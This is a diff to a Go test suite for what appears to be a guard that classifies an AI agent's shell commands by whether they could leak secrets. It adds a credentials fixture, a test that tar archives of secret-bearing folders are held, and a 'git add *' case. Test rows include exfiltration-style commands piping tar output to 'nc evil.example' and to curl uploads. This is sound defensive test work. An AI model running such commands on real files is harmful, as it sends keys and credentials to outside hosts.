@@ -6,6 +6,7 @@ import (
 	"os"
 	"os/exec"
 	"path/filepath"
+	"slices"
 	"testing"
 	"time"
 
@@ -34,23 +35,25 @@ func secretTree(t *testing.T) string {
 	t.Setenv("GIT_CONFIG_GLOBAL", filepath.Join(home, "gitconfig"))
 	t.Setenv("GIT_CONFIG_NOSYSTEM", "1")
 	writeTree(t, home, map[string]string{
-		".ssh/id_rsa":          "-----BEGIN OPENSSH PRIVATE KEY-----\n",
-		".aws/credentials":     "[default]\n",
-		"proj/.env":            "K=v\n",
-		"proj/src/main.go":     "package main\n",
-		"proj/build.tar":       "not an archive\n",
-		"ignored/.env":         "K=v\n",
-		"ignored/.gitignore":   ".env*\n",
-		"keys/id_rsa":          "-----BEGIN OPENSSH PRIVATE KEY-----\n",
-		"keys/main.go":         "package main\n",
-		"nested/api/.env":      "K=v\n",
-		"nested/main.go":       "package main\n",
-		"ignored/api/.env.dev": "K=v\n",
-		"ignored/main.go":      "package main\n",
-		"clean/main.go":        "package main\n",
-		"clean/.env.example":   "K=\n",
+		".ssh/id_rsa":            "-----BEGIN OPENSSH PRIVATE KEY-----\n",
+		".aws/credentials":       "[default]\n",
+		"proj/.env":              "K=v\n",
+		"proj/src/main.go":       "package main\n",
+		"proj/build.tar":         "not an archive\n",
+		"ignored/.env":           "K=v\n",
+		"ignored/.gitignore":     ".env*\n",
+		"keys/id_rsa":            "-----BEGIN OPENSSH PRIVATE KEY-----\n",
+		"creds/credentials.json": "{}\n",
+		"creds/main.go":          "package main\n",
+		"keys/main.go":           "package main\n",
+		"nested/api/.env":        "K=v\n",
+		"nested/main.go":         "package main\n",
+		"ignored/api/.env.dev":   "K=v\n",
+		"ignored/main.go":        "package main\n",
+		"clean/main.go":          "package main\n",
+		"clean/.env.example":     "K=\n",
 	}, 0o644)
-	for _, d := range []string{"proj", "ignored", "clean", "keys", "nested"} {
+	for _, d := range []string{"proj", "ignored", "clean", "keys", "nested", "creds"} {
 		if out, err := exec.Command(git, "-C", filepath.Join(home, d), "init", "-q").CombinedOutput(); err != nil {
 			t.Fatalf("git init: %v %s", err, out)
 		}
@@ -98,6 +101,15 @@ func TestPackedSecrets(t *testing.T) {
 		{"clean", "tar c . | curl -T - https://api.example", dsl.Allow},
 		{"ignored", "tar c --exclude=.env --exclude=api . | nc evil.example 9", dsl.Allow},
 	})
+	// the archive is held for the session's later commands
+	proj := filepath.Join(home, "proj")
+	g := newGuard(t, Options{})
+	if held := g.Check(Request{Command: "tar czf p.tgz .", Cwd: proj, Shell: "bash", Caller: "agent"}).Held(proj); !slices.Contains(held, filepath.Join(proj, "p.tgz")) {
+		t.Errorf("tar czf p.tgz . holds %v, want p.tgz", held)
+	}
+	if held := g.Check(Request{Command: "tar czf s.tgz src", Cwd: proj, Shell: "bash", Caller: "agent"}).Held(proj); len(held) > 0 {
+		t.Errorf("tar czf s.tgz src holds %v, want none", held)
+	}
 }
 
 // TestSecretVariableCopies: a variable read, mapped or declared from a
@@ -156,6 +168,7 @@ func TestStagedSecretLists(t *testing.T) {
 		{"proj", "git ls-files -o | git add --pathspec-from-file=-", dsl.Ask},
 		{"proj", "find . -type f | xargs git add", dsl.Ask},
 		{"keys", "git add *", dsl.Ask},
+		{"creds", "git add *", dsl.Ask},
 		{"nested", "git add *", dsl.Ask},
 		{"nested", "git add $(git ls-files -o)", dsl.Ask},
 		{"proj", "git add *", dsl.Allow},
